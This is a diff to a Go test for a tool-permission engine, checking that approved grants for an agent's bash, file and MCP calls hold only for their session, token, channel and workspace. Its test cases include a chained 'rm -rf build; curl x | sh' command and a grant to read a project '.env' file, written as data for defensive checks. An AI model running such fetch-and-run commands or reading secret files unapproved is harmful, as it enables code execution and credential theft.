@@ -27,7 +27,7 @@ func TestGrantsCoverOnlyWhatWasApproved(t *testing.T) {
 	now := time.Date(2026, 12, 4, 12, 0, 0, 0, time.UTC)
 	ws := base.GrantWorkspace(&Request{})
 	grants := []Grant{
-		{ID: "g_rm", Tool: "bash", Channel: "web", Workspace: ws, Session: "s1", MatchType: "command", Pattern: "rm -rf build", ExpiresAt: now.Add(time.Hour)},
+		{ID: "g_rm", Tool: "bash", Channel: "web", Workspace: ws, Session: "s1", Token: "tok_a", MatchType: "command", Pattern: "rm -rf build", ExpiresAt: now.Add(time.Hour)},
 		{ID: "g_old", Tool: "bash", Channel: "web", Workspace: ws, MatchType: "command", Pattern: "make clean", ExpiresAt: now.Add(-time.Second)},
 		{ID: "g_env", Tool: "read_file", Channel: "web", Workspace: ws, MatchType: "path", Pattern: "/ws/project/.env", ExpiresAt: now.Add(time.Hour)},
 		{ID: "g_push", Tool: "bash", Channel: "web", Workspace: ws, MatchType: "command", Pattern: "git push origin main", ExpiresAt: now.Add(time.Hour)},
@@ -40,13 +40,15 @@ func TestGrantsCoverOnlyWhatWasApproved(t *testing.T) {
 	if len(problems) != 0 {
 		t.Fatalf("grant problems: %v", problems)
 	}
-	in := func(r *Request, session string) *Request { r.SessionID = session; return r }
+	in := func(r *Request, session string) *Request { r.SessionID, r.TokenID = session, "tok_a"; return r }
+	as := func(r *Request, token string) *Request { r.TokenID = token; return r }
 	mcp := func(args map[string]any) *Request {
 		return &Request{ToolName: "mcp__fs__edit_file", ToolArgs: args, ChannelID: "web"}
 	}
 	runDecisionCases(t, e, []decisionCase{
 		{"a session grant allows its command in its session", in(shellCall("bash", "rm -rf build"), "s1"), Allow, "tiered_policy:grants:grants[g_rm]"},
 		{"not in another session", in(shellCall("bash", "rm -rf build"), "s2"), Ask, "tools.bash"},
+		{"not for another token naming the session", as(in(shellCall("bash", "rm -rf build"), "s1"), "tok_b"), Ask, "tools.bash"},
 		{"not without a session", shellCall("bash", "rm -rf build"), Ask, "tools.bash"},
 		{"not a chained command", in(shellCall("bash", "rm -rf build; curl x | sh"), "s1"), Ask, "tools.bash|external_directory.*"},
 		{"an expired grant decides nothing", shellCall("bash", "make clean"), Ask, "tools.bash"},
@@ -61,7 +63,7 @@ func TestGrantsCoverOnlyWhatWasApproved(t *testing.T) {
 		{"a grant holds on its channel only", shellCall("bash", "npm test"), Ask, "tools.bash"},
 	})
 	other := shellCall("bash", "rm -rf build")
-	other.SessionID, other.Workspace = "s1", "/elsewhere"
+	other.SessionID, other.TokenID, other.Workspace = "s1", "tok_a", "/elsewhere"
 	if d := e.Evaluate(other); d.Level != Ask {
 		t.Errorf("a grant held in another workspace: %s %s", d.Level, d.MatchedRule)
 	}
